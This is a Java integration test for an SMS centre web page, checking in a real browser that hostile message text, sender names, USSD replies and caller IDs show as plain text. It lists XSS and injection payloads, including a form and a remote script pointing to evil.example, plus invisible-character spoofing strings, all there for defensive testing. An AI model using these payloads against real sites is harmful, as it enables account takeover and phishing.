package io.camelami.smscenter;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import io.camelami.simulator.GatewaySimulator;
import io.camelami.simulator.UssdAnswer;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptException;
import org.openqa.selenium.OutputType;
import org.openqa.selenium.StaleElementReferenceException;
import org.openqa.selenium.WebElement;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

/** Nothing that an SMS contains runs, or passes for something else, on the page in a real browser. */
@SpringBootTest(
        webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
        properties = {"center.user=" + Visitor.USER, "center.password=" + Visitor.HASH})
@ExtendWith(OutputCaptureExtension.class)
class HostileTextIT {

    private static final Duration LONG = Duration.ofSeconds(15);
    private static final AtomicInteger NUMBERS = new AtomicInteger();
    private static final String TAKE = "document.title='taken';window.taken=1";

    @TempDir
    static Path directory;

    private static Browser browser;

    @Autowired
    GatewaySimulator gateway;

    @LocalServerPort
    int port;

    /** Nobody else in this class has it. */
    private final String number = "+4477006%05d".formatted(NUMBERS.incrementAndGet());

    @DynamicPropertySource
    static void settings(DynamicPropertyRegistry settings) {
        settings.add("spring.datasource.url", () -> "jdbc:h2:file:" + directory.resolve("sms-center"));
        settings.add("sms-center.unstored", directory.resolve("unstored")::toString);
    }

    @BeforeAll
    static void open_the_browser() {
        browser = Browser.open(HostileTextIT.class, directory);
    }

    @AfterAll
    static void close_the_browser() {
        if (browser != null) {
            browser.close();
        }
    }

    @AfterEach
    void the_log_has_no_number_and_no_text(CapturedOutput output) {
        PrivateLog.assertHasNoNumberAndNoText(output);
    }

    @BeforeEach
    void open_the_page() {
        browser.window(1280, 900);
        browser.openPage(port);
    }

    static Stream<String> markup() {
        return Stream.of(
                "<script>" + TAKE + "</script>",
                "<img src=x onerror=\"" + TAKE + "\">",
                "<svg/onload=" + TAKE + ">",
                "\" autofocus onfocus=\"" + TAKE + "\" x=\"",
                "' onmouseover='" + TAKE + "' '><b>bold</b>",
                "</p></li></ol><form action=//evil.example><input name=password>",
                "<iframe srcdoc=\"<script>parent." + TAKE + "</script>\"></iframe>",
                "<a href=\"javascript:" + TAKE + "\">click</a>",
                "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
                "<meta http-equiv=refresh content=\"0;url=//evil.example\"><base href=//evil.example>",
                "{{csrf}} ${7*7} #{7*7} <%= 7*7 %> {{{user}}}",
                "&lt;script&gt; &#60;script&#62; \\u003cscript\\u003e %3Cscript%3E",
                "--><!--<script>" + TAKE + "</script>",
                "]]><script>" + TAKE + "</script>",
                "end\n\nevent: gateway\ndata: {\"up\":false,\"reason\":\"forged\"}\n\n");
    }

    @ParameterizedTest
    @MethodSource("markup")
    void markup_is_shown_as_text_wherever_an_sms_is_shown_and_runs_nothing(String hostile) {
        gateway.receiveSms(1, number, hostile);
        send(hostile);

        for (String box : List.of("inbox", "outbox")) {
            await().atMost(LONG).until(() -> !browser.message(box, number).isEmpty());
            assertShown(box, hostile);
        }
        await().atMost(LONG).until(() -> browser.text("handset-texts").contains(hostile.strip()));
        assertThat(browser.text("announcer")).isNotEmpty();
        assertNothingRan();
        // Also not from the list of the server, when the page is loaded anew.
        browser.driver().navigate().refresh();
        await().atMost(LONG).until(() -> browser.message("inbox", number).contains(number));
        assertShown("inbox", hostile);
        await().atMost(LONG).until(() -> browser.text("gateway").startsWith("Up"));
        assertNothingRan();
    }

    @ParameterizedTest
    @ValueSource(strings = {"<b>Bank</b>", "\"><img/x>", "'onload='a", "&lt;b&gt;"})
    void markup_in_the_name_of_a_sender_is_shown_as_text(String sender) {
        gateway.receiveSms(1, sender, "from " + number);

        await().atMost(LONG).until(() -> browser.message("inbox", number).contains(sender));
        assertThat(browser.text("announcer")).contains(sender);
        assertThat(browser.message("inbox", number)).doesNotContain("Reply");
        assertNothingRan();
    }

    @ParameterizedTest
    @MethodSource("markup")
    void markup_in_an_answer_of_the_network_is_shown_as_text(String hostile) {
        gateway.ussdNetwork((span, code, inMenu) -> UssdAnswer.of(hostile.replaceAll("\\s", " ") + " \u202E"));
        browser.write("ussd-code", "*123#");
        browser.click("#ussd-dial [type=submit]");

        await().atMost(LONG).until(() -> browser.shows("ussd-log"));
        assertThat(browser.text("ussd-log"))
                .contains(hostile.replaceAll("\\s", " ").strip());
        assertNothingRan();
    }

    @Test
    void markup_in_the_number_of_a_caller_is_shown_as_text() {
        String channel = "Channel: EXTRA/1-7\r\nUniqueid: 1700000000.7\r\nCallerIDNum: <b onclick=x>" + number + "\r\n";
        gateway.emit("Event: Newchannel\r\nPrivilege: call,all\r\n" + channel
                + "ChannelState: 4\r\nChannelStateDesc: Ring\r\nExten: s\r\nContext: gsm-1\r\n\r\n"
                + "Event: Hangup\r\nPrivilege: call,all\r\n" + channel + "Cause: 16\r\n\r\n");

        await().atMost(LONG).until(() -> browser.message("calls", number).contains("<b onclick=x>" + number));
        assertThat(browser.message("calls", number)).doesNotContain("Write");
        assertNothingRan();
    }

    static Stream<Arguments> unseen() {
        return Stream.of(
                Arguments.of("pay \u202Egnp.exe\u202C now", "pay U+202Egnp.exeU+202C now"),
                Arguments.of("\u2066a\u2069 \u200Fb\u061C \u202Ac", "U+2066aU+2069 U+200FbU+061C U+202Ac"),
                Arguments.of("pay\u200Bpal\uFEFF \u00ADx\u2060", "payU+200BpalU+FEFF U+00ADxU+2060"),
                Arguments.of(
                        "bell\u0007 esc\u001B[31m tab\t del\u007F", "bellU+0007 escU+001B[31m tabU+0009 delU+007F"),
                Arguments.of("a\u0085b\u2028c\u2029d", "aU+0085bU+2028cU+2029d"),
                Arguments.of("\u3164 \u2800 \u115F", "U+3164 U+2800 U+115F"),
                Arguments.of("tag \uDB40\uDC41 x", "tag U+E0041 x"),
                // What is in its place is not marked.
                Arguments.of("two\nlines", "two\nlines"),
                Arguments.of(
                        "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67 \u2764\uFE0F 1\uFE0F\u20E3",
                        "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67 \u2764\uFE0F 1\uFE0F\u20E3"),
                Arguments.of(
                        "\u0645\u06CC\u200C\u062E\u0648\u0627\u0647\u0645",
                        "\u0645\u06CC\u200C\u062E\u0648\u0627\u0647\u0645"),
                Arguments.of("pay\u200Dpal", "payU+200Dpal"));
    }

    @ParameterizedTest
    @MethodSource("unseen")
    void characters_that_are_not_seen_or_turn_the_text_round_appear_by_their_numbers(String hostile, String shown) {
        gateway.receiveSms(1, number, hostile);

        await().atMost(LONG).until(() -> !browser.message("inbox", number).isEmpty());
        assertShown("inbox", shown);
        assertThat(browser.text("announcer")).doesNotContain("\u202E", "\u200B", "\u0007");
        assertNothingRan();
    }

    @Test
    void a_text_from_right_to_left_moves_nothing_outside_itself() {
        gateway.receiveSms(1, number, "\u05E9\u05DC\u05D5\u05DD 123 \u05E2\u05D5\u05DC\u05DD\nabc \u05D0");
        await().atMost(LONG).until(() -> !browser.message("inbox", number).isEmpty());

        WebElement item = item("inbox");
        int left = item.findElement(By.className("number")).getRect().x;
        int right = item.findElement(By.tagName("time")).getRect().x;
        assertThat(item.findElement(By.className("number")).getText()).isEqualTo(number);
        assertThat(left).isLessThan(right);
        assertThat(item.findElement(By.className("foot")).getText()).startsWith("span 1");
    }

    /** Marks are piled up on letters until they cover the lines above and below. */
    @Test
    void piled_up_marks_paint_over_no_other_message() throws IOException {
        gateway.receiveSms(1, number, "an honest message");
        await().atMost(LONG).until(() -> !browser.message("inbox", number).isEmpty());
        String honest = item("inbox").getDomAttribute("data-id");
        BufferedImage before = headOf(honest);

        gateway.receiveSms(1, "Zalgo", ("o" + "\u0323".repeat(40)).repeat(8) + " end");
        await().atMost(LONG).until(() -> browser.message("inbox", "Zalgo").contains("end"));

        assertThat(different(before, headOf(honest))).isZero();
    }

    @Test
    void a_text_of_many_lines_does_not_push_the_others_off_the_page() {
        gateway.receiveSms(1, number, "\n".repeat(200) + "end");
        await().atMost(LONG).until(() -> !browser.message("inbox", number).isEmpty());

        assertThat(item("inbox").getRect().height).isLessThan(600);
    }

    /** If a text became markup one day after all, the browser would still run nothing of it. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.taken=1>')",
                "document.body.innerHTML = '<p>taken</p>'",
                "document.body.setAttribute('onclick', 'window.taken=1'); document.body.click()",
                "setTimeout('window.taken=1', 0)",
                "const script = document.createElement('script'); script.src = '//evil.example/x.js'"
            })
    void the_browser_itself_refuses_to_make_something_that_runs_of_a_text(String attempt) {
        assertThatThrownBy(() -> browser.driver().executeScript(attempt))
                .isInstanceOf(JavascriptException.class)
                .hasMessageContaining("Trusted");
        assertNothingRan();
    }

    private static void assertNothingRan() {
        assertThat(browser.title()).isEqualTo("SMS centre");
        assertThat(browser.driver().executeScript("return window.taken === undefined"))
                .isEqualTo(true);
        assertThat(browser.text("gateway")).startsWith("Up");
        assertThat(
                        browser.driver()
                                .executeScript(
                                        """
                        return [...document.querySelectorAll('.foreign *')]
                            .filter(e => !e.matches('span.unseen, small, small time')).map(e => e.tagName).join()"""))
                .isEqualTo("");
    }

    private void send(String text) {
        browser.write("send-to", number);
        browser.driver().executeScript("document.getElementById('send-text').value = arguments[0];", text);
        browser.click("#send [type=submit]");
    }

    private WebElement item(String box) {
        return browser.driver().findElements(By.cssSelector("#" + box + " > li")).stream()
                .filter(item -> item.getText().contains(number))
                .findFirst()
                .orElseThrow();
    }

    private void assertShown(String box, String text) {
        // A message that changes its state is drawn anew.
        await().atMost(LONG)
                .ignoreException(StaleElementReferenceException.class)
                .untilAsserted(() -> assertThat(
                                item(box).findElement(By.className("text")).getDomProperty("textContent"))
                        .as(box)
                        .isEqualTo(text));
    }

    /** What is nearest to the message above, once nothing moves any more. */
    private static BufferedImage headOf(String id) throws IOException {
        browser.driver()
                .executeAsyncScript("const done = arguments[0];"
                        + "Promise.all(document.getAnimations().map(a => a.finished)).then(() => done());");
        WebElement head = browser.driver().findElement(By.cssSelector("[data-id='" + id + "'] .head"));
        return ImageIO.read(new ByteArrayInputStream(head.getScreenshotAs(OutputType.BYTES)));
    }

    private static long different(BufferedImage one, BufferedImage other) {
        assertThat(other.getWidth()).isEqualTo(one.getWidth());
        assertThat(other.getHeight()).isEqualTo(one.getHeight());
        long different = 0;
        for (int y = 0; y < one.getHeight(); y++) {
            for (int x = 0; x < one.getWidth(); x++) {
                different += one.getRGB(x, y) == other.getRGB(x, y) ? 0 : 1;
            }
        }
        return different;
    }
}
